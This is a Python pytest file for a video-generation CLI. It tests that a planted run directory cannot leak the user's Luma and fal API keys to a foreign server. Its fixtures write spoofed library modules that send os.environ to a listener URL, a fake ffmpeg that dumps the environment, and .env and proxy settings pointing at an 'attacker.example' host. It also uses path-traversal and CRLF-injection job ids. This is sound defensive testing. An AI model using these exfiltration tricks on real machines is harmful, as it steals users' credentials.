"""A run directory of a stranger's leads no key anywhere, whatever it holds."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import httpx
import pytest
from attrs import evolve

from vidgen_core import layout
from vidgen_core.journal import Journal
from vidgen_core.ledger import InFlight
from vidgen_core.model import Key, Step
from vidgen_core.specs import Price, ProviderKind
from vidgen_core.testing.service import digest

from ..extent import some
from .customers import (
    FAL_KEY,
    FILM,
    KEYS,
    LUMA_KEY,
    Customer,
    by_way_of,
    clips,
    film_of,
)
from .listeners import Listener, listening

MODEL = "fal-ai/ltx-2.3/text-to-video/fast"
#: Ids of jobs that would lead a question elsewhere.
WAYS = ("../../../steal?", "{base}/steal", "@{host}/x", "a\r\nHost: x")
CLIP = Key(Step.CLIP, scene=1, clip=1)


@pytest.fixture
def stranger() -> Iterator[Listener]:
    """The server that the directory wants the keys to come to."""
    with listening() as listener:
        yield listener


@pytest.fixture
def outside() -> Iterator[Listener]:
    """All that is not this machine, as the user's proxy."""
    with listening() as listener:
        yield listener


@pytest.fixture
def user(customer: Customer, outside: Listener) -> Customer:
    """A customer of whose requests none gets past this machine unheard."""
    return evolve(customer, more=by_way_of(outside.base))


@pytest.fixture(autouse=True)
def _nobody_else_is_asked(
    stranger: Listener, outside: Listener, customer: Customer
) -> Iterator[None]:
    yield
    assert stranger.heard == []
    assert outside.heard == []
    shown = [one for one in customer.service.requests() if one.keys]
    assert {one.route for one in shown if "asset" in one.route or "file" in one.route} == set()
    assert not list(customer.home.rglob("*.ran"))


def lead_astray(root: Path, to: str) -> None:
    """Let all that *root* can say point at *to*."""
    places = "\n".join(
        f'[providers.{name}]\nbase_url = "{to}"\nstorage_url = "{to}"\nupload_url = "{to}"\n'
        f'callback_url = "{to}"\nkey = "{to}"\nprice = "0.0"\n'
        for name in ("ltx", "luma", "fal")
    )
    evil = _evil_program(root / "ffmpeg")
    core = f'ffmpeg = "{evil}"\nin_doubt_limit = 1000.0\nmax_cost = 1e9\nunknown_price = 0.0\n'
    state = root / layout.STATE
    state.mkdir(exist_ok=True)
    (state / "settings.toml").write_text(core + places, "utf-8")
    (state / "patterns.json").write_text(json.dumps({"patterns": [{"pattern": to}]}), "utf-8")
    (state / "probes.json").write_text(json.dumps({"url": to}), "utf-8")
    modules = ("lumaai", "fal_client", "httpx", "sitecustomize", "vidgen_luma", "vidgen_core")
    for name in modules:
        (root / f"{name}.py").write_text(_evil_module(to), "utf-8")
    names = [*KEYS, "FAL_API_KEY", "LUMAAI_BASE_URL", "FAL_QUEUE_RUN_HOST", "FAL_RUN_HOST"]
    names += [f"VIDGEN_{who}_BASE_URL" for who in ("LUMA", "LTX", "FAL")]
    names += [f"VIDGEN_LTX_{what}_URL" for what in ("STORAGE", "UPLOAD")]
    names += ["HTTPS_PROXY", "HTTP_PROXY", "VIDGEN_CONFIG", "VIDGEN_FFMPEG", "PYTHONPATH"]
    (root / ".env").write_text("".join(f"{name}={to}\n" for name in names), "utf-8")


def _evil_module(to: str) -> str:
    return f"import os, urllib.request\nurllib.request.urlopen({to!r} + '/' + str(os.environ))\n"


def _evil_program(path: Path) -> Path:
    path.write_text(f"#!/bin/sh\nenv > '{path}.ran'\n", "utf-8")
    path.chmod(0o755)
    return path


@pytest.mark.parametrize("engine", some(["luma", "ltx"], 1))
def test_settings_and_dotenv_of_a_directory_lead_no_key_elsewhere(
    user: Customer, stranger: Listener, engine: str
) -> None:
    root = user.scenes()
    lead_astray(root, stranger.base)
    more = ("--image-generator", engine.replace("ltx", "fal"), "--first-frame-image-gen")
    # "." for the directory: its user has gone into it
    ended = user.heard("continue", ".", "--engine", engine, *more, *FILM, inside=root)
    assert ended.code == 0, ended.err
    film_of(root)
    assert len(user.bill()) == 4  # two pictures, two clips


@pytest.mark.parametrize("engine", some(["luma", "ltx"], 1))
def test_a_key_in_the_directory_itself_is_no_key(
    user: Customer, stranger: Listener, engine: str
) -> None:
    root = user.scenes()
    lead_astray(root, stranger.base)
    without = evolve(user, keys=dict.fromkeys(KEYS, ""))
    ended = without.heard("continue", ".", "--engine", engine, *FILM, inside=root)
    assert ended.code == 4, ended.err
    assert user.service.requests() == []


@pytest.mark.parametrize(
    ("engine", "name"), some([("luma", "LUMAAI_API_KEY"), ("ltx", "FAL_KEY")], 1)
)
def test_a_dotenv_of_the_users_own_gives_keys_and_nothing_else(
    user: Customer, stranger: Listener, engine: str, name: str
) -> None:
    root = user.scenes(1)
    lead_astray(user.home, stranger.base)
    dotenv = user.home / ".env"
    dotenv.write_text(f"{dotenv.read_text('utf-8')}\n{name}={KEYS[name]}\n", "utf-8")
    without = evolve(user, keys=dict.fromkeys(KEYS, ""))
    ended = without.heard("continue", root, "--engine", engine, *FILM)
    assert ended.code == 0, ended.err
    assert len(user.bill()) == 1


@pytest.mark.parametrize("elsewhere", ["here", "https://queue.fal.run.attacker.example"])
def test_urls_in_a_journal_are_asked_for_nothing(
    user: Customer, stranger: Listener, elsewhere: str
) -> None:
    base = stranger.base if elsewhere == "here" else elsewhere
    root = user.scenes(1)
    queue = user.environ["VIDGEN_LTX_BASE_URL"]
    made = httpx.post(
        f"{queue}/{MODEL}",
        headers={"Authorization": f"Key {FAL_KEY}"},
        json={"prompt": "a boat", "duration": 6, "resolution": "1080p"},
        trust_env=False,
    ).json()
    path = made["status_url"].removeprefix(queue)
    facts = {
        "model": MODEL,
        "status_url": f"{base}{path}",
        "response_url": f"{queue}@{base.partition('//')[2]}{path}",
        "cancel_url": f"{base}{path}",
        "url": f"{base}/video.mp4",
    }
    _claim(root, "ltx", made["request_id"], facts)
    ended = user.heard("continue", ".", "--engine", "ltx", *FILM, inside=root)
    assert ended.code == 0, ended.err
    film_of(root)
    assert [charge.job for charge in user.bill()] == [made["request_id"]]


@pytest.mark.parametrize(("job", "engine"), some([*product(WAYS, ["luma", "ltx"])], 3))
def test_a_job_of_which_the_id_is_a_way_elsewhere_is_no_job(
    user: Customer, stranger: Listener, engine: str, job: str
) -> None:
    root = user.scenes(1)
    host = stranger.base.partition("//")[2]
    _claim(root, engine, job.format(base=stranger.base, host=host), {"model": "../x@" + host})
    ended = user.heard("continue", ".", "--engine", engine, *FILM, inside=root)
    assert ended.code in (3, 10), ended.err
    assert clips(root) == []
    assert user.service.requests() == []


def _claim(root: Path, engine: str, job: str, facts: dict[str, str]) -> None:
    """Have the journal of *root* say that *job* of *engine* makes its first clip."""
    (root / layout.STATE).mkdir(exist_ok=True)
    work = InFlight(
        key=CLIP,
        take=1,
        provider=engine,
        kind=ProviderKind.VIDEO_ENGINE,
        token="0" * 32,
        seconds=5.0,
        since=1.0,
        price=Price(0.01, 0.01),
    )
    with Journal(root) as journal:
        journal.intent(work)
        journal.submitted(CLIP, 1, job, facts)


def test_both_keys_are_only_ever_shown_to_their_own_service(user: Customer) -> None:
    root = user.scenes()
    user.service.trouble("luma.video", "out-of-credit", at=2)
    user.finish(root, "luma")
    assert user.finish(root, "ltx").code == 0
    for key, vendor in ((LUMA_KEY, "luma"), (FAL_KEY, "fal")):
        saw_it = [one for one in user.service.requests() if digest(key) in one.keys.values()]
        assert {one.route.partition(".")[0] for one in saw_it} == {vendor}
        assert {name for one in saw_it for name in one.keys} == {"authorization"}
